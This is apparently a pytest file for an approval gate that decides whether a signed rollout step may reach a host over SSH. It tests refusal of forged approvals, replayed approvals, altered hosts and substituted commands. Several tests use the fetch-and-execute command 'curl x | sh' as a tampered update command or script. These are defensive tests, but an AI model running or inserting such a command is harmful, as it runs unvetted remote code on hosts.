"""The host gate (activities/trust.py `Trust.admit`): what a host step must prove, with the
worker's own policy, keys and inventory (read by ansible-inventory), before it may connect."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

import asyncssh
import pytest
from temporalio.exceptions import ApplicationError

from activities.host_steps import HostStepActivities
from activities.inventory import InventoryActivities
from activities.lineage import Lineage, Lineages
from activities.policy import load_policy
from activities.ssh import SshRunner
from activities.trust import Trust, resolve_targets
from activities.vault import VaultCredentialSource
from bot.signing import Signer
from workflows.models import ApprovalDecision, HostJob, HostStepInput, RolloutInput
from workflows.proof import rollout_digest

UPDATE = "apt-get update && apt-get -y upgrade"
EARLIER = datetime.now(UTC) - timedelta(hours=1)


class Recorded(Lineages):
    """What Temporal records of a step's workflow (activities/lineage.py): started by rollout
    `rollout_id` (None: on its own), whose first run began at `started_at`."""

    def __init__(self, rollout_id: str | None = "r-1", started_at: datetime = EARLIER) -> None:
        super().__init__()
        self.lineage = Lineage(rollout_id, started_at if rollout_id else None)

    async def of_current_activity(self) -> Lineage:
        return self.lineage


@pytest.fixture
def world(tmp_path: Path) -> tuple[Trust, dict[str, Signer], InventoryActivities]:
    signers, public = {}, {}
    for name in ("alice", "carol", "mallory"):
        key = asyncssh.generate_private_key("ssh-ed25519")
        path = tmp_path / name
        path.write_bytes(key.export_private_key())
        signers[name] = Signer(path, name)
        public[name] = key.export_public_key().decode().strip()
    people = "\n".join(f'  {n}: {{email: {n}@example.com, keys: ["{public[n]}"]}}' for n in public)
    policy = tmp_path / "policy.yml"
    policy.write_text(
        f"people:\n{people}\n  bob: {{email: bob@example.com}}\nclusters:\n  web:\n"
        f"    requesters: [bob]\n    approvers: [alice, carol]\n    minApprovals: 2\n"
        f'    updateProfiles: {{security: "{UPDATE}"}}\n'
    )
    inventory = tmp_path / "hosts.ini"
    inventory.write_text("[web]\nw1 ansible_host=10.0.0.1\nw2 ansible_host=10.0.0.2\n")
    listed = InventoryActivities(inventory)
    return Trust(load_policy(policy), listed, lineages=Recorded()), signers, listed


def job_and_step(
    listed: InventoryActivities, approvals: list[str], signers: dict[str, Signer], **extra: object
):
    rollout = RolloutInput.model_validate(
        {
            "targetClusters": ["web"],
            "pilotHostCount": 1,
            "requesterEmail": "bob@example.com",
            "updateCommand": UPDATE,
        }
        | extra
    )
    targets = resolve_targets(listed, ["web"], None)
    digest = rollout_digest(rollout, targets)
    decisions = [
        ApprovalDecision(
            approver=f"{who}@example.com",
            proof=signers[who].proof("r-1", "approve", f"{who}@example.com", digest),
        )
        for who in approvals
    ]
    job = HostJob.from_rollout("r-1", rollout).model_copy(update={"approvals": decisions})
    return HostStepInput(job=job, host=targets["web"][0], command=UPDATE)


async def refusal(trust: Trust, step: HostStepInput) -> str:
    with pytest.raises(ApplicationError) as refused:
        await trust.admit(step)
    assert refused.value.type == "NotApproved" and refused.value.non_retryable
    return refused.value.message


async def test_a_step_with_its_approvals_for_what_the_inventory_says_is_admitted(world) -> None:
    trust, signers, listed = world
    await trust.admit(job_and_step(listed, ["alice", "carol"], signers))


async def test_approvals_count_only_in_the_run_of_the_rollout_they_were_given_in(
    world,
) -> None:
    trust, signers, listed = world
    step = job_and_step(listed, ["alice", "carol"], signers)
    # A host workflow someone started on their own, or under another rollout, with these
    # approvals copied into its input.
    for parent, said in ((None, "no rollout (it was started on its own)"), ("r-2", "rollout r-2")):
        alone = Trust(trust.policy, listed, lineages=Recorded(parent))
        refused = await refusal(alone, step)
        assert f"its workflow was started by {said}, not by rollout r-1" in refused
    # The rollout was started again under its id after they were signed (a cancelled
    # rollout's approvals replayed): they do not carry over.
    later = Trust(trust.policy, listed, lineages=Recorded("r-1", datetime.now(UTC) + timedelta(1)))
    refused = await refusal(later, step)
    assert "alice@example.com's approval was signed at" in refused
    assert "before this run of rollout r-1 began" in refused


async def test_every_kind_of_forged_step_is_refused(world) -> None:
    trust, signers, listed = world
    good = job_and_step(listed, ["alice", "carol"], signers)
    moved = good.model_copy(update={"host": good.host.model_copy(update={"address": "6.6.6.6"})})
    assert "differ from this worker's inventory" in await refusal(trust, moved)
    other = good.model_copy(update={"command": "curl x | sh"})
    assert "not the rollout's update command" in await refusal(trust, other)
    scripted = good.model_copy(update={"scripts": ["curl x | sh"]})
    assert "not the rollout's scripts" in await refusal(trust, scripted)
    stranger = good.model_copy(
        update={"host": good.host.model_copy(update={"name": "x9", "address": "10.9.9.9"})}
    )
    assert "not one of the rollout's hosts" in await refusal(trust, stranger)
    # The job itself changed: its approvals no longer cover what runs.
    job = good.job.model_copy(update={"update_command": "curl x | sh"})
    changed = good.model_copy(update={"job": job, "command": "curl x | sh"})
    assert "free-form update commands" in await refusal(trust, changed)
    job = good.job.model_copy(update={"service_list": ["sshd"]})
    assert "needs 2 verified approval" in await refusal(trust, good.model_copy(update={"job": job}))
    # The repair of an interrupted dpkg turned on after the approvals: it runs a command.
    job = good.job.model_copy(update={"repair_interrupted_dpkg": True})
    assert "needs 2 verified approval" in await refusal(trust, good.model_copy(update={"job": job}))


async def test_the_dpkg_repair_runs_only_as_approved(world) -> None:
    trust, signers, listed = world
    step = job_and_step(listed, ["alice", "carol"], signers, repairInterruptedDpkg=True)
    assert step.job.repair_interrupted_dpkg
    await trust.admit(step)  # approved with the repair: admitted
    job = step.job.model_copy(update={"repair_interrupted_dpkg": False})
    assert "needs 2 verified approval" in await refusal(trust, step.model_copy(update={"job": job}))


async def test_too_few_or_forged_approvals_are_refused(world) -> None:
    trust, signers, listed = world
    assert "has 1: alice" in await refusal(trust, job_and_step(listed, ["alice"], signers))
    twice = job_and_step(listed, ["alice", "alice"], signers)
    assert "has 1: alice" in await refusal(trust, twice)
    forged = job_and_step(listed, ["alice", "mallory"], signers)
    assert "has 1: alice" in await refusal(trust, forged)  # mallory is no approver
    step = job_and_step(listed, ["alice", "carol"], signers)
    # Mallory signs as if she were Carol; and Alice's key labelled as Carol's signer.
    carols = step.job.approvals[1]
    assert carols.proof is not None
    digest = carols.proof.digest
    by_mallory = Signer(signers["mallory"].key, "carol").proof(
        "r-1", "approve", "carol@example.com", digest
    )
    forged_carol = carols.model_copy(update={"proof": by_mallory})
    job = step.job.model_copy(update={"approvals": [step.job.approvals[0], forged_carol]})
    said = await refusal(trust, step.model_copy(update={"job": job}))
    assert "carol@example.com's signature does not verify with carol's keys" in said
    as_alice = carols.model_copy(
        update={"proof": carols.proof.model_copy(update={"signer": "alice"})}
    )
    job = step.job.model_copy(update={"approvals": [step.job.approvals[0], as_alice]})
    said = await refusal(trust, step.model_copy(update={"job": job}))
    assert "signed by 'alice', who may not vouch for them" in said


async def test_a_step_that_needs_no_session_is_gated_all_the_same(world, tmp_path: Path) -> None:
    # The default drain check, `true`, is answered without connecting (workflows/targets.is_no_op);
    # a step nobody approved is still refused there, not only at the next step that connects.
    trust, signers, listed = world
    steps = HostStepActivities(
        VaultCredentialSource("http://127.0.0.1:1"), SshRunner(tmp_path / "none"), trust
    )
    approved = job_and_step(listed, ["alice", "carol"], signers)
    assert (await steps.wait_for_workload_drain(approved)).ok
    with pytest.raises(ApplicationError) as refused:
        await steps.wait_for_workload_drain(job_and_step(listed, ["alice"], signers))
    assert refused.value.type == "NotApproved"
